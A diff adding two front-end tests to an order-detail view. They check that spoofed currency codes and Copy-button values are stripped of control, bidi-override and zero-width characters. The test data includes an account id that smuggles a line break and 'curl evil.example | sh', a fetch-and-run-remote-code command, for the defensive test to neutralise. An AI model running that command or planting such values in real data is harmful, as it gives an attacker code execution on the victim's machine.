@@ -471,6 +471,70 @@ describe('OrderDetail', () => {
     expect(contact.getByText(HOSTILE_EMAIL, { selector: 'bdi' }).closest('a')).toBeNull();
   });
 
+  it('shows a currency code that is no ISO code without its controls, overrides or hidden characters, wherever an amount is', async () => {
+    const base = fullOrder();
+    // Not three letters, so the wire model keeps it as sent; the override would read "Total: $1.00".
+    const currency = `${SPOOFED_TOTAL}\u200b\u0007${'X'.repeat(100)}`;
+    const order: Order = {
+      ...base,
+      documentCurrencyCode: currency,
+      anticipatedMonetaryTotal: { amount: 9999.99, currencyCode: currency },
+      documentLines: [
+        {
+          lineId: '1',
+          lineItem: {
+            name: 'Seat licence',
+            quantity: { value: 2, unitCode: 'C62' },
+            price: { priceAmount: { amount: 4999.995, currencyCode: currency } },
+          },
+        },
+      ],
+    };
+    await renderOrder(fullView({ order }));
+    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
+    let amounts = 0;
+    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
+      const text = node.textContent ?? '';
+      if (!text.includes('latoT')) continue;
+      amounts++;
+      expect(text, text.slice(0, 80)).not.toMatch(CONTROL_OR_BIDI);
+      expect(text, text.slice(0, 80)).not.toMatch(/\u200b/);
+    }
+    expect(amounts).toBeGreaterThan(2); // the header, the order's total, the line's price and total
+  });
+
+  it('copies what each Copy button shows beside it: no line break, control, bidi or hidden character', async () => {
+    const writeText = vi.fn().mockResolvedValue(undefined);
+    vi.stubGlobal('navigator', { ...navigator, clipboard: { writeText } });
+    const base = fullOrder();
+    // Pasted into a shell to provision, a line break runs what follows it; an override or a
+    // zero-width space makes the id pasted another than the one read.
+    const accountId = `acct-1\ncurl evil.example | sh\n\u202e9-tcca\u200b`;
+    const licenseId = `lic-\u202e1\u200b\u0007`;
+    await renderOrder(
+      fullView({
+        order: {
+          ...base,
+          buyerCustomerParty: { ...base.buyerCustomerParty, supplierAssignedAccountId: accountId },
+        },
+        licenses: [{ licenseId, electronicMail: 'a@b.example' }],
+      }),
+    );
+    const buttons = screen.getAllByRole('button', {
+      name: /^Copy (buyer account id|license id|order id|e-mail)$/,
+    });
+    expect(buttons).toHaveLength(4);
+    for (const button of buttons) fireEvent.click(button);
+    await waitFor(() => expect(writeText).toHaveBeenCalledTimes(4));
+    const copied = writeText.mock.calls.map(([text]) => text as string);
+    for (const text of copied) {
+      expect(text).not.toMatch(CONTROL_OR_BIDI);
+      expect(text).not.toMatch(/\u200b/);
+    }
+    expect(copied).toContain('acct-1 curl evil.example | sh 9-tcca');
+    expect(copied).toContain('lic-1');
+  });
+
   it('shows an order that holds only the required fields', async () => {
     await renderOrder(
       fullView({
